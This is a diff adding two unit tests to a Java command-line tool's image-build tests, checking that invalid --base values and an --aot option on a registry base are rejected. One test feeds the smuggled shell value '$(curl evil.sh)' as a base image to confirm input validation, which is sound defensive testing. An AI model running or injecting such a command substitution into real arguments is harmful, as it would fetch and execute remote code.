@@ -27,4 +27,18 @@ class ImagesCommandTest {
         assertThat(run.code()).isZero();
         assertThat(run.out()).contains("--aot", "podman", "JDK >= 25");
     }
+
+    @Test
+    void aBaseThatIsNotARegistryReferenceIsAUsageError() {
+        var run = PlanCommandTest.run("images", "build", "mc-api", "--base", "$(curl evil.sh)");
+        assertThat(run.code()).isEqualTo(2);
+        assertThat(run.err()).contains("must be host[:port]/repository[:tag][@sha256:");
+    }
+
+    @Test
+    void anAotCacheOnARegistryBaseIsRefusedBeforeAnythingIsBuilt() {
+        var run = PlanCommandTest.run("images", "build", "mc-api", "--aot", "--base", "gcr.io/distroless/java21-debian12:nonroot");
+        assertThat(run.code()).isEqualTo(2);
+        assertThat(run.err()).contains("--aot trains on the image's own jlink'd runtime");
+    }
 }
